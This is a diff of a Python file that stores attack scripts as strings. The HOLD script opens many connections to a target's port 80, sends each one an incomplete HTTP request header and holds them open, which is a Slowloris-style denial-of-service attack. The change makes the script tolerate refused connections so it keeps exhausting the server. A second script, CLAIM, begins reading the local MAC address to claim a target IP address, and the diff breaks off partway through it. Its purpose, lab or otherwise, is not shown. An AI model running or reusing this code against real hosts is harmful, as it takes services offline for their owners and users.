@@ -38,12 +38,16 @@ HOLD = """
 import socket, sys
 held = []
 for _ in range(int(sys.argv[2])):
-    one = socket.create_connection((sys.argv[1], 80), timeout=10)
-    one.sendall(b"GET / HTTP/1.1\\r\\nHost: ")
-    held.append(one)
+    try:
+        one = socket.create_connection((sys.argv[1], 80), timeout=10)
+        one.sendall(b"GET / HTTP/1.1\\r\\nHost: ")
+        held.append(one)
+    except ConnectionError:
+        pass
 print("held", flush=True)
 sys.stdin.read()
 """
+"""Holds as many connections as it gets, until told."""
 CLAIM = """
 import socket, sys
 address, mac = socket.inet_aton(sys.argv[1]), open("/sys/class/net/eth0/address").read().strip()
